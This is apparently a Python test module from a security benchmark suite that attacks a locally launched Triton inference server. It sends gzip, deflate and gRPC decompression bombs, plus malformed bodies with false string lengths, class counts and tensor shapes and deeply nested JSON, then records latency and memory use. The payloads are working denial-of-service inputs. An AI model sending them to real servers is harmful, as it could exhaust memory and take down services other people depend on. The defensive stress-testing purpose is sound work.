"""Attacks by bodies: compressed bombs, and numbers that promise more than the body holds."""

import asyncio
import gzip
import json
import struct
import zlib
from collections import Counter
from collections.abc import Mapping
from itertools import cycle
from pathlib import Path

import grpc
from tritonclient.grpc import service_pb2 as pb

from benchmarks.attacks.connections import read_answer
from benchmarks.attacks.streams import SERVICE
from benchmarks.attacks.watched import MIB, Did, Watched, add_model, under

_INFER = "/v2/models/identity/infer"
#: bytes that a bomb inflates to
_BOMB = 2 << 30
_STRINGS = """
backend: "python"
input [{ name: "INPUT0" data_type: TYPE_STRING dims: [-1] }]
output [{ name: "OUTPUT0" data_type: TYPE_STRING dims: [-1] }]
"""


def post(path: str, body: bytes, *headers: str) -> bytes:
    """The bytes of a POST."""
    lines = [f"POST {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def bomb(coding: str, size: int) -> bytes:
    """So many zeros in gzip or deflate: a thousandth of it."""
    packer = zlib.compressobj(9, wbits=31 if coding == "gzip" else 15)
    block = bytes(MIB)
    return b"".join(packer.compress(block) for _ in range(size // MIB)) + packer.flush()


async def ask_all(server: Watched, asked: list[bytes], clients: int) -> Counter[str]:
    """Send all by so many clients, one after another on each connection; how often each answer came."""
    work = iter(asked)

    async def client() -> None:
        for sent in work:
            reader, writer = await asyncio.open_connection(*server.address, limit=1 << 30)
            try:
                writer.write(sent)
                await writer.drain()
                status, body = await read_answer(reader)
                found[f"{status} {body[:110].decode(errors='replace') if status != 200 else ''}"] += 1
            except (OSError, EOFError) as fault:
                found[f"unanswered, {type(fault).__name__}"] += 1
            writer.close()

    found: Counter[str] = Counter()
    await asyncio.gather(*(client() for _ in range(clients)))
    return found


def http_bombs(repository: Path, count: int) -> Did:
    """Bodies of 2 MiB that inflate to 2 GiB, in gzip and deflate, eight at a time."""
    bombs = [
        post(_INFER, bomb(coding, _BOMB), f"Content-Encoding: {coding}") for coding in ("gzip", "deflate")
    ]

    async def attack(server: Watched) -> Did:
        asked = [sent for _, sent in zip(range(count), cycle(bombs), strict=False)]
        return {"bombs": count, "bytes of one": len(bombs[0]), **await ask_all(server, asked, 4)}

    return under(repository, attack)


def grpc_bombs(repository: Path, count: int) -> Did:
    """ModelInfer messages of 1 MiB that inflate to 1 GiB of raw input, two at a time."""

    async def attack(server: Watched) -> Did:
        asked = pb.ModelInferRequest(model_name="identity")
        asked.inputs.add(name="INPUT0", datatype="FP32", shape=(1,))
        asked.raw_input_contents.append(bytes(1 << 30))
        sent = asked.SerializeToString()
        found: Counter[str] = Counter()
        async with grpc.aio.insecure_channel(
            server.grpc, options=[("grpc.max_send_message_length", -1)]
        ) as channel:
            call = channel.unary_unary(f"{SERVICE}/ModelInfer")

            async def client(share: int) -> None:
                for _ in range(share):
                    try:
                        await call(sent, compression=grpc.Compression.Gzip)
                        found["OK"] += 1
                    except grpc.aio.AioRpcError as error:
                        found[f"{error.code().name}: {error.details()}"[:120]] += 1

            await asyncio.gather(*(client(count // 2) for _ in range(2)))
        return {"bombs": count, **found}

    return under(repository, attack)


def _binary(head: dict[str, object], data: bytes) -> bytes:
    text = json.dumps(head).encode()
    return post("/v2/models/strings/infer", text + data, f"Inference-Header-Content-Length: {len(text)}")


def lies(repository: Path, count: int) -> Did:
    """Bodies that lie about what they hold: string lengths, classification counts, shapes, offsets, depth of JSON."""
    add_model(repository, "strings", config=_STRINGS)
    one = {"name": "INPUT0", "datatype": "BYTES", "shape": [1]}
    lengths = struct.pack("<I", 0xFFFFFFFF) + b"x"
    many = struct.pack("<I", 0) * (4 * MIB)
    floats = {"name": "INPUT0", "datatype": "FP32", "shape": [2]}
    numbers = {**floats, "data": [1, 2]}

    def sized(tensor: Mapping[str, object], data: bytes) -> dict[str, object]:
        return {"inputs": [{**tensor, "parameters": {"binary_data_size": len(data)}}]}

    def classes(wanted: int) -> bytes:
        output = {"name": "OUTPUT0", "parameters": {"classification": wanted}}
        return post(_INFER, json.dumps({"inputs": [numbers], "outputs": [output]}).encode())

    def shaped(shape: list[int]) -> bytes:
        return post(_INFER, json.dumps({"inputs": [{**floats, "shape": shape, "data": [1]}]}).encode())

    asked = [
        _binary(sized(one, lengths), lengths),
        _binary(sized({**one, "shape": [4 * MIB]}, many), many),
        _binary(sized({**one, "shape": [2**62]}, many), many),
        classes(2**31 - 1),
        classes(2**63 - 1),
        shaped([2**31]),
        shaped([2**40]),
        shaped([2**31, 2**31, 2**31]),
        shaped([1] * 1_000_000),
        post(_INFER, b"[" * 2_000_000),
        post(_INFER, b'{"inputs":[' + b'{"name":' * 1_000_000),
        post(_INFER, b'{"inputs":[' + b"1," * 5_000_000),
        post(
            _INFER, b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1],"data":[' + b"9" * 5_000_000
        ),
        post(_INFER, b'{"inputs":"' + b"\\u0041" * 2_000_000),
        post("/v2/models/identity/generate", b'{"a":' * 500_000),
        post("/v2/repository/models/identity/load", b'{"parameters":' * 500_000),
        post("/v2/logging", b"[" * 2_000_000),
        post(_INFER, gzip.compress(b"[" * 50_000_000), "Content-Encoding: gzip"),
    ]

    async def attack(server: Watched) -> Did:
        each: Did = {}
        for number, sent in enumerate(asked):
            begin = asyncio.get_running_loop().time()
            found = await ask_all(server, [sent], 1)
            taken = asyncio.get_running_loop().time() - begin
            health = server.beside()["health"].get("max_ms")
            print(f"  lie {number}: {taken:.2f} s", flush=True)
            each[f"{number}: {next(iter(found))}"] = (
                f"{taken:.2f} s, health max {health} ms, {server.held.peak_mib} MiB"
            )
        work = [sent for _, sent in zip(range(count), cycle(asked), strict=False)]
        return {"each": each, "together": count, **await ask_all(server, work, 8)}

    return under(repository, attack)
